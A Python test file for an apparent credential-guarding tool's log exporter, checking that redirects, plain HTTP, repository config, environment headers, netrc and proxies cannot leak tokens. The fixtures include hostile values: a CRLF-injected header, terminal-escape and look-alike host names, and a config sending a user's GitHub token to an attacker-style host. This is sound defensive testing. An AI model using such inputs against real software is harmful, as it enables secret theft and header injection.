"""Export against a hostile network or collector: what a redirect, plain HTTP off this machine,
or a collector that never answers can make the worker do with the records and the token."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from mcpcred.errors import ConfigError, ExportError, UsageError
from mcpcred.export import config, targets, worker
from mcpcred.export.otlp import OtlpSink
from mcpcred.guard import auditlog
from tests.support.cli import run
from tests.support.otlp_receiver import Receiver

KEY = bytes.fromhex("ab" * 32)
TOKEN = "Bearer hostile-test-token-1"
RECORDS: list[dict[str, object]] = [
    {"v": 1, "seq": 1, "time": "2026-12-05T01:00:00.000Z", "server": "db", "session": "s",
     "event": "call", "method": "tools/call", "tool": "query", "request_id": 1, "outcome": "ok",
     "duration_ms": 1.0, "prev": "", "mac": "m1"},
]  # fmt: skip


# -- redirects -------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_is_not_a_delivery_and_is_not_followed(receiver: Receiver, status: int) -> None:
    """Regression: the exporter counted any status below 400 as success, so a 3xx (a proxy
    sending http to https, or a MITM) made the worker move its cursor past records that went
    nowhere. The headers must not follow the redirect either (requests strips Authorization
    only, not e.g. X-Api-Key)."""
    elsewhere = Receiver().start()
    try:
        receiver.fail_with = status
        receiver.location = f"http://localhost:{elsewhere.port}/v1/logs"
        sink = OtlpSink(receiver.url, headers={"X-Api-Key": TOKEN}, timeout=2.0)
        with pytest.raises(ExportError) as caught:
            sink.send(RECORDS)
        sink.close()
        assert caught.value.message == (
            f"the collector at {receiver.url} redirected the log records (HTTP {status}), "
            "which mcpcred does not follow"
        )
        assert TOKEN not in str(caught.value) + str(caught.value.hint)
        assert elsewhere.headers == []  # nothing, and no token, reached the other host
    finally:
        elsewhere.stop()


def test_the_worker_keeps_its_cursor_while_the_collector_redirects(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, receiver: Receiver
) -> None:
    monkeypatch.setenv("MCPCRED_DATA_DIR", str(tmp_path / "data"))
    folder = auditlog.default_folder()
    auditlog.AuditLog(folder, KEY).append_many([{"event": "finding", "detail": "x"}] * 2)
    receiver.fail_with = 308
    receiver.location = "https://127.0.0.1:1/"
    target = targets.parse(receiver.url)
    shipper = worker.Shipper(target, folder, lambda t: OtlpSink(t.url, timeout=2.0), print)
    assert shipper.step()
    assert shipper.cursor == 0 and worker.read_cursor(config.key(target)) == 0
    assert len(shipper.pending) == 2  # still to send
    receiver.fail_with = None
    shipper.retry_at = 0.0
    shipper.step()
    assert shipper.cursor == 2 and receiver.seqs() == [1, 2]
    shipper.close()


# -- a token over plain HTTP -----------------------------------------------------------------


@pytest.mark.parametrize(
    "host", ["otel.example.com", "10.0.0.7", "[fe80::1]", "127.0.0.1.nip.io", "localhost.evil"]
)
def test_headers_never_go_over_plain_http_off_this_machine(tmp_path: Path, host: str) -> None:
    """Regression: otlp+http://REMOTE with an Authorization header was accepted, so the
    collector's token crossed the network in clear text."""
    user = tmp_path / "config.toml"
    user.write_text(
        f'[[log.export]]\nkind = "otlp"\nurl = "otlp+http://{host}:4318"\n'
        'headers = { Authorization = "mcpcred:secret/otel-token" }\n'
    )
    with pytest.raises(ConfigError) as caught:
        config.load({"MCPCRED_CONFIG": str(user)}, str(tmp_path))
    assert "headers would go in clear text" in caught.value.message
    # the same target built another way: no secret is even read
    target = targets.Target(
        url=f"otlp+http://{host}:4318", kind="otlp", scheme="otlp+http", host=host.strip("[]"),
        port=4318, headers={"Authorization": "mcpcred:secret/otel-token"},
    )  # fmt: skip
    read: list[str] = []

    def lookup(name: str) -> str:
        read.append(name)
        return TOKEN

    with pytest.raises(ExportError, match="headers would go in clear text"):
        targets.resolve_headers(target, lookup)
    assert read == []


@pytest.mark.parametrize("host", ["127.0.0.1", "127.8.9.10", "localhost", "[::1]"])
def test_plain_http_with_headers_to_this_machine_and_without_headers_anywhere(
    tmp_path: Path, host: str
) -> None:
    user = tmp_path / "config.toml"
    user.write_text(
        f'[[log.export]]\nkind = "otlp"\nurl = "otlp+http://{host}:4318"\n'
        'headers = { Authorization = "mcpcred:secret/otel-token" }\n'
        '[[log.export]]\nkind = "otlp"\nurl = "otlp+http://otel.example.com:4318"\n'
        '[[log.export]]\nkind = "otlp"\nurl = "otlp+https://otel.example.com:4318"\n'
        'headers = { Authorization = "mcpcred:secret/otel-token" }\n'
    )
    assert len(config.load({"MCPCRED_CONFIG": str(user)}, str(tmp_path))) == 3


def test_log_export_refuses_a_header_over_plain_http_off_this_machine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MCPCRED_DATA_DIR", str(tmp_path / "data"))
    done = run(
        "log", "export", "--to", "otlp+http://10.9.8.7:4318",
        "--header", "Authorization=mcpcred:secret/otel-token",
    )  # fmt: skip
    assert done.code == UsageError.exit_code, done.stderr
    assert "headers would go in clear text to otlp+http://10.9.8.7:4318" in done.stderr


# -- a repository's [[log.export]] -------------------------------------------------------------


def test_a_project_table_cannot_have_a_secret_of_the_user_read_and_sent(tmp_path: Path) -> None:
    """Regression: with ``project_exports = true`` (one switch for every repository), a
    cloned repository's table could name any secret of the user's store as a header and
    have it sent to a host of its choosing."""
    user = tmp_path / "config.toml"
    user.write_text("[log]\nproject_exports = true\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "mcpcred.toml").write_text(
        '[[log.export]]\nkind = "otlp"\nurl = "otlp+https://collector.evil.example:4318"\n'
        'headers = { Authorization = "mcpcred:secret/github-token" }\n'
    )
    env = {"MCPCRED_CONFIG": str(user)}
    with pytest.raises(ConfigError) as caught:
        config.load(env, str(repo))
    assert "a project file cannot name headers" in caught.value.message
    assert caught.value.hint is not None and "your own config file" in caught.value.hint
    # the same table in the user's own file is the user's choice
    user.write_text("[log]\nproject_exports = true\n" + (repo / "mcpcred.toml").read_text())
    (repo / "mcpcred.toml").write_text("")
    (found,) = config.load(env, str(repo))
    assert found.headers == {"Authorization": "mcpcred:secret/github-token"}


# -- a collector's answer --------------------------------------------------------------------


class _Answering:
    """A loopback HTTP server answering every POST with ``body_size`` bytes (``pace``: a
    pause between bytes), counting what it managed to write before the client hung up."""

    def __init__(self, body_size: int, pace: float = 0.0, status: int = 200) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.written = 0
        answering = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", "0")))
                self.send_response(status)
                self.send_header("Content-Length", str(body_size))
                self.end_headers()
                step = 1 if pace else 1 << 16
                try:
                    for _ in range(0, body_size, step):
                        self.wfile.write(b"x" * step)
                        answering.written += step
                        if pace:
                            self.wfile.flush()
                            time.sleep(pace)
                except OSError:
                    pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"otlp+http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_huge_answer_is_not_read_into_memory() -> None:
    """Regression: the answer's body was read whole (requests without stream), so a
    collector or a MITM answering with gigabytes filled the worker's memory."""
    answering = _Answering(body_size=200 * 1024 * 1024)
    try:
        sink = OtlpSink(answering.url, timeout=5.0)
        sink.send(RECORDS)  # the status (200) is what counts; the body is not wanted
        sink.close()
        time.sleep(0.2)
        # what the kernel's buffers held when the client hung up, not 200 MB
        assert answering.written < 32 * 1024 * 1024, answering.written
    finally:
        answering.stop()


def test_an_answer_sent_a_byte_at_a_time_ends_at_the_timeout() -> None:
    """Regression: each byte reset the read timeout, so a collector sending its answer
    a byte every 0.2 s held a send (and the worker, for every target) for as long as it
    liked."""
    answering = _Answering(body_size=50, pace=0.2)  # 10 s in all
    try:
        sink = OtlpSink(answering.url, timeout=1.0)
        started = time.monotonic()
        sink.send(RECORDS)
        sink.close()
        assert time.monotonic() - started < 5
    finally:
        answering.stop()


def test_a_collector_that_never_answers_ends_the_send_within_its_timeout() -> None:
    """Checked safe: a receiver that accepts and says nothing is an ExportError within
    the timeout (the exporter's one retry included), so the worker backs off."""
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    try:
        sink = OtlpSink(f"otlp+http://127.0.0.1:{listener.getsockname()[1]}", timeout=1.0)
        started = time.monotonic()
        with pytest.raises(ExportError):
            sink.send(RECORDS)
        assert time.monotonic() - started < 4
        sink.close()
    finally:
        listener.close()


# -- the environment ---------------------------------------------------------------------------


def test_otel_header_variables_of_the_environment_are_never_sent(
    receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: the exporter adds OTEL_EXPORTER_OTLP_HEADERS (and the per-signal ones)
    to every request whatever headers it is given, so a vendor key the user's shell
    exports for other programs went to mcpcred's collector (maybe a repository's, or over
    plain HTTP)."""
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_HEADERS", "x-honeycomb-team=env-key-1")
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_LOGS_HEADERS", "authorization=Bearer env-key-2")
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_TRACES_HEADERS", "x-api-key=env-key-3")
    sink = OtlpSink(receiver.url, headers={"Authorization": TOKEN})
    sink.send(RECORDS)
    sink.close()
    import os

    sent = [value for headers in receiver.headers for value in headers.values()]
    assert TOKEN in sent  # the target's own header
    assert not [value for value in sent if "env-key" in value], sent
    assert "x-honeycomb-team" not in receiver.headers[0]
    # the variables are the user's: back as they were
    assert os.environ["OTEL_EXPORTER_OTLP_HEADERS"] == "x-honeycomb-team=env-key-1"


# -- what a URL's host can put on a terminal ---------------------------------------------------


@pytest.mark.parametrize(
    "host",
    ["ev\x1bil\x07", "e\x7fv", "a b", "ex%41mple.com", "[::1%25eth0]", "\u202egro.live",
     "ex\u0430mple.com", "-bad.example"],
)  # fmt: skip
def test_a_host_that_is_not_a_host_name_is_refused_without_being_shown(
    tmp_path: Path, host: str
) -> None:
    """Regression: control characters (a terminal escape), bidi controls and look-alike
    letters were accepted in the host, which ``Target.shown`` prints as it is: in messages,
    in the shim's stderr, in findings."""
    with pytest.raises(UsageError) as caught:
        targets.parse(f"otlp+https://{host}:4318")
    assert caught.value.message == "--to: the export URL's host is not a host name or IP address"
    user = tmp_path / "config.toml"
    url = json.dumps(f"otlp+https://{host}:4318")  # a TOML basic string too
    user.write_text(f'[[log.export]]\nkind = "otlp"\nurl = {url}\n')
    with pytest.raises(ConfigError, match="host is not a host name or IP address"):
        config.load({"MCPCRED_CONFIG": str(user)}, str(tmp_path))


@pytest.mark.parametrize(
    "host", ["otel.example.com", "otel.example.com.", "xn--bcher-kva.example", "otel_collector",
             "10.0.0.1", "[2001:db8::1]", "LOCALHOST"],
)  # fmt: skip
def test_host_names_and_addresses_are_taken(host: str) -> None:
    assert targets.parse(f"otlp+https://{host}:4318").host == host.strip("[]").lower()


def test_a_batch_over_the_exporters_size_limit_is_a_refusal_not_an_outage(
    receiver: Receiver,
) -> None:
    """Regression: the exporter drops a request over max_request_size without sending it,
    and the sink reported that as an outage, so the worker would retry the same batch
    forever, holding back every later record (a refusal is skipped with a finding)."""
    from mcpcred.export.targets import RefusedBatch

    sink = OtlpSink(receiver.url)
    sink._logs._max_request_size = 64  # as a batch of records near the log's 64 KiB limit
    with pytest.raises(RefusedBatch) as caught:
        sink.send(RECORDS)
    sink.close()
    assert caught.value.message == (
        f"the log records for {receiver.url} are larger than one request may be"
    )
    assert receiver.headers == []  # nothing was sent


# -- a secret that cannot be a header --------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [" Bearer lead-secret-1", "Bearer trail-secret-2 ", "Bearer t\u00f6k-secret-3\u2028",
     "Bearer nul\x00-secret-4", "Bearer bell\x07-secret-5", "Bearer \u20ac-secret-6",
     "Bearer a\r\nX-Evil: secret-7"],
)  # fmt: skip
def test_a_secret_that_cannot_be_a_header_value_is_named_not_sent_and_not_shown(
    value: str,
) -> None:
    """Regression: such a value went to the HTTP client, which refused it (quoting it in an
    exception) or sent a NUL as it was; the sink reported "no answer (the collector is down
    or unreachable)", an outage the worker would retry forever."""
    target = targets.Target(
        url="otlp+https://otel.example.com:4318", kind="otlp", scheme="otlp+https",
        host="otel.example.com", port=4318, headers={"Authorization": "mcpcred:secret/otel-token"},
    )  # fmt: skip
    with pytest.raises(ExportError) as caught:
        targets.resolve_headers(target, {"otel-token": value}.__getitem__)
    assert "'otel-token' cannot be an HTTP header value" in caught.value.message
    assert "secret-" not in caught.value.message + str(caught.value.hint)


def test_header_values_that_are_fine() -> None:
    target = targets.Target(
        url="otlp+https://o:4318", kind="otlp", scheme="otlp+https", host="o", port=4318,
        headers={"Authorization": "mcpcred:secret/t"},
    )  # fmt: skip
    for value in ("Bearer abc.DEF-123_~+/=", "Basic dXNlcjpwYXNz", "tab\there", "caf\u00e9"):
        assert targets.resolve_headers(target, {"t": value}.__getitem__) == {"Authorization": value}


def test_netrc_logins_are_never_added(
    receiver: Receiver, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: requests adds ~/.netrc's login for the host to a request without an
    Authorization header, and a ``default`` entry matches every host: the user's password
    went to the collector (a repository's with project_exports, or over plain HTTP)."""
    netrc = tmp_path / "netrc"
    netrc.write_text(
        "machine 127.0.0.1 login me password netrc-secret-1\n"
        "default login me password netrc-secret-2\n"
    )
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    sink = OtlpSink(receiver.url)
    sink.send(RECORDS)
    sink.close()
    assert receiver.headers and not [h for h in receiver.headers if "authorization" in h]


def test_a_collector_on_this_machine_is_not_reached_through_a_proxy(
    receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Regression: with HTTP_PROXY set (and no NO_PROXY for it), the plain-HTTP request to
    a loopback collector, its Authorization header and all, went to the proxy."""
    proxy = Receiver().start()
    try:
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("HTTP_PROXY", f"http://127.0.0.1:{proxy.port}")
        monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{proxy.port}")
        sink = OtlpSink(receiver.url, headers={"Authorization": TOKEN})
        sink.send(RECORDS)
        sink.close()
        assert proxy.headers == []
        assert receiver.headers[0]["authorization"] == TOKEN
    finally:
        proxy.stop()
